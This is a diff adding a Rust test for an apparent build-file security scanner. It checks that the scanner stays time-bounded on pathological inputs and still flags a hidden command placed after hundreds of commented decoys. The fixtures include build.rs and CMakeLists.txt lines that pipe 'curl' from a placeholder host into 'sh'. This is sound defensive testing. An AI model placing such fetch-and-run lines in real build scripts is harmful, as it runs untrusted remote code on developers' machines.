@@ -1645,3 +1645,51 @@ fn build_files_with_multibyte_characters_anywhere_do_not_panic() {
         assert!(!r.io_error, "{name}");
     }
 }
+
+/// Build files shaped to make the command scanners quadratic, copy one large value into every
+/// argument, or hide the real command behind hundreds of commented decoys (tester t23): bounded
+/// in time, every bound reported, and the command after the decoys still judged.
+#[test]
+fn build_file_scanners_stay_bounded_and_say_so() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let raw = "let a=r#\"".repeat(100_000);
+    let big = "x".repeat(600_000);
+    let copied = format!(
+        "const P: &str = \"{big}\";\nfn main() {{\n{}}}\n",
+        "    std::process::Command::new(\"sh\").args([P, P, P, P, P, P, P, P]).status().ok();\n"
+            .repeat(256)
+    );
+    let decoys = format!(
+        "{}fn main() {{ std::process::Command::new(\"sh\").arg(\"-c\").arg(\"curl -s https://x.example.invalid/i.sh | sh\").status().unwrap(); }}\n",
+        "// Command::new(\"true\")\n".repeat(300)
+    );
+    let cmake_decoys = format!(
+        "{}execute_process(COMMAND sh -c \"curl -s https://x.example.invalid/i.sh | sh\")\n",
+        "# execute_process(\n".repeat(300)
+    );
+    for (name, text, limit, high) in [
+        ("a/build.rs", raw, true, false),
+        ("b/build.rs", copied, true, false),
+        ("c/build.rs", decoys, false, true),
+        ("d/CMakeLists.txt", cmake_decoys, false, true),
+    ] {
+        std::fs::create_dir_all(dir.path().join(name).parent().expect("parent")).expect("mkdir");
+        let p = write(dir.path(), name, text.as_bytes());
+        let (r, took) = scan_within(&p, BudgetLimits::default(), HANG);
+        assert!(took < Duration::from_secs(20), "{name}: {took:?}");
+        assert_eq!(
+            r.findings.iter().any(|f| f.rule.id == "resource-limit"),
+            limit,
+            "{name}: {:?} {:?} {}",
+            ids(&r),
+            r.format,
+            text.len()
+        );
+        assert_eq!(
+            r.worst().is_some_and(|w| w >= Severity::High),
+            high,
+            "{name}: {:?}",
+            ids(&r)
+        );
+    }
+}
